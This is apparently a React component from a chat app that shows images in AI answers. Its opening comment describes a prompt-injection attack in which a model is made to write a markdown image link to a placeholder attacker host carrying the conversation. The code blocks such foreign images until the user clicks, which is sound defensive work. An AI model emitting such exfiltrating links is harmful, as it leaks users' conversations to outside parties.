// An image in an answer. A model can be prompt-injected into writing ![](https://attacker/?q=<the
// conversation>); loading that image would send the text to its host. So only images from this site
// load by themselves; any other shows a button naming the host and loads when the user clicks it.
import { Button } from '@mantine/core';
import { IconPhoto } from '@tabler/icons-react';
import { useState, type ComponentPropsWithoutRef } from 'react';
import { useTranslation } from 'react-i18next';
import classes from './answer-content.module.css';

/** The host of an image from another site, or null when it is this site's (or relative). */
export function foreignImageHost(src: string, pageUrl: string = window.location.href): string | null {
  let url: URL;
  try {
    url = new URL(src, pageUrl);
  } catch {
    return null;
  }
  return url.origin === new URL(pageUrl).origin ? null : url.host || url.protocol;
}

export function AnswerImage({ src, alt, ...rest }: ComponentPropsWithoutRef<'img'>) {
  const { t } = useTranslation('chat');
  const [allowed, setAllowed] = useState(false);
  if (typeof src !== 'string' || !src) return alt ? <span>{alt}</span> : null;
  const host = foreignImageHost(src);
  if (host && !allowed) {
    return (
      <Button
        className={classes.imagePlaceholder}
        size="compact-sm"
        variant="default"
        leftSection={<IconPhoto size={16} aria-hidden />}
        title={t('answer.imageBlocked')}
        onClick={() => setAllowed(true)}
      >
        {t('answer.loadImage', { host })}
      </Button>
    );
  }
  // No referrer either: the conversation's address is nobody else's business.
  return <img {...rest} src={src} alt={alt ?? ''} referrerPolicy="no-referrer" className={classes.image} />;
}
